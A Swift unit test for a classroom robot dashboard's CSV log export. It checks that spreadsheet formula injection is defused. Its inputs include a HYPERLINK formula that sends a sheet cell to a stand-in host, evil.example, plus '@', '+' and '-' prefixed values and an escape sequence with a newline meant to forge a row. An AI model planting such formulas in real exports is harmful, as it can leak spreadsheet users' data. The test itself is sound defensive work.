import Foundation
import Testing
@testable import WebServer

/// The lesson's log as the dashboard's Log (CSV) button gives it.
struct TeacherLogTests {
    /// A robot name or a text from the network that a spreadsheet would run as a formula (here
    /// one that sends the sheet's first cell away when clicked) is a text cell; control
    /// characters are shown escaped, never written.
    @Test func formulaNamesAreTextCellsInTheLessonsCSV() throws {
        let log = try TeacherLog(directory: nil)
        let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"robot-1\")"
        log.record(robot: formula, event: "stop-all", detail: "@SUM(1)")
        log.record(robot: "+cmd", event: "state", detail: "-1\u{1B}[2J\nforged")
        let lines = log.csv().components(separatedBy: "\r\n")
        #expect(lines[0] == "time,robot,event,detail")
        #expect(lines[1].hasSuffix(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"robot-1\"\")\",stop-all,'@SUM(1)"), "\(lines[1])")
        #expect(lines[2].hasSuffix(",'+cmd,state,'-1\\u{1B}[2J\\u{A}forged"), "\(lines[2])")
        #expect(lines.count == 4 && lines[3].isEmpty)
    }
}
